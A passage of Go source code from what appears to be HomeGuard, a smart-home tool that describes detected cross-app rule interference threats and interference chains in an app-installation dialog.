			t.R1.Action.Subject, t.R1.Action.Command, t.R2.Action.Subject, t.R2.Action.Command))
	case detect.CovertTriggering:
		sb.WriteString(fmt.Sprintf(
			"rule %s's action can covertly trigger rule %s, forming the hidden rule: when %s, eventually %s.",
			t.R1.QualifiedID(), t.R2.QualifiedID(),
			describeTrigger(t.R1.Trigger), describeAction(t.R2.Action)))
	case detect.SelfDisabling:
		sb.WriteString(fmt.Sprintf(
			"rule %s triggers rule %s, which immediately reverses %s's action.",
			t.R1.QualifiedID(), t.R2.QualifiedID(), t.R1.QualifiedID()))
	case detect.LoopTriggering:
		sb.WriteString(fmt.Sprintf(
			"rules %s and %s trigger each other in a loop with contradictory actions — devices may oscillate.",
			t.R1.QualifiedID(), t.R2.QualifiedID()))
	case detect.EnablingCondition:
		sb.WriteString(fmt.Sprintf(
			"rule %s's action can enable rule %s's condition.",
			t.R1.QualifiedID(), t.R2.QualifiedID()))
	case detect.DisablingCond:
		sb.WriteString(fmt.Sprintf(
			"rule %s's action disables rule %s's condition — %s may silently stop working.",
			t.R1.QualifiedID(), t.R2.QualifiedID(), t.R2.App))
	}
	if len(t.Witness) > 0 {
		sb.WriteString(" Example situation: ")
		sb.WriteString(witnessText(t))
	}
	return sb.String()
}

func kindTitle(k detect.Kind) string {
	switch k {
	case detect.ActuatorRace:
		return "Actuator Race"
	case detect.GoalConflict:
		return "Goal Conflict"
	case detect.CovertTriggering:
		return "Covert Triggering"
	case detect.SelfDisabling:
		return "Self Disabling"
	case detect.LoopTriggering:
		return "Loop Triggering"
	case detect.EnablingCondition:
		return "Enabling-Condition Interference"
	case detect.DisablingCond:
		return "Disabling-Condition Interference"
	}
	return string(k)
}

func witnessText(t detect.Threat) string {
	var parts []string
	for name, v := range t.Witness {
		if strings.HasPrefix(v.Enum, "\x00") {
			continue
		}
		parts = append(parts, fmt.Sprintf("%s = %s", name, v))
	}
	sortStrings(parts)
	if len(parts) > 6 {
		parts = parts[:6]
	}
	return strings.Join(parts, ", ") + "."
}

func sortStrings(xs []string) {
	for i := 1; i < len(xs); i++ {
		for j := i; j > 0 && xs[j] < xs[j-1]; j-- {
			xs[j], xs[j-1] = xs[j-1], xs[j]
		}
	}
}

// DescribeChain renders a multi-hop interference chain (Sec. VI-D).
func DescribeChain(c detect.Chain) string {
	var sb strings.Builder
	sb.WriteString("interference chain: ")
	for i, r := range c.Rules {
		if i > 0 {
			kind := "?"
			if i-1 < len(c.Kinds) {
				kind = string(c.Kinds[i-1])
			}
			sb.WriteString(fmt.Sprintf(" —%s→ ", kind))
		}
		sb.WriteString(r.QualifiedID())
	}
	sb.WriteString(" — the first rule's action can ripple through ")
	sb.WriteString(fmt.Sprintf("%d accepted interference(s).", len(c.Rules)-1))
	return sb.String()
}

// InstallReport renders the full installation dialog: the new app's rules
// followed by every discovered threat.
func InstallReport(appName string, rules []*rule.Rule, threats []detect.Threat) string {
	var sb strings.Builder
	sb.WriteString("HomeGuard — installing " + appName + "\n")
	sb.WriteString(strings.Repeat("=", 40) + "\n")
	sb.WriteString("This app defines:\n")
	for _, r := range rules {
		sb.WriteString("  • " + DescribeRule(r) + "\n")
	}
	if len(threats) == 0 {
		sb.WriteString("No cross-app interference detected.\n")
		return sb.String()
	}
	sb.WriteString(fmt.Sprintf("%d potential cross-app interference threat(s):\n", len(threats)))
	for _, t := range threats {
		sb.WriteString("  ⚠ " + DescribeThreat(t) + "\n")
	}
	sb.WriteString("Keep the app, remove it, or change its configuration.\n")
	return sb.String()
}

// InstallDialog renders the installation dialog including chained-threat
// lines — the complete text both the library (homeguard.Home) and the
// fleet service show at install time.
func InstallDialog(appName string, rules []*rule.Rule, threats []detect.Threat, chains []detect.Chain) string {
	report := InstallReport(appName, rules, threats)
	for _, c := range chains {
		report += "  ⛓ " + DescribeChain(c) + "\n"
	}
	return report
}
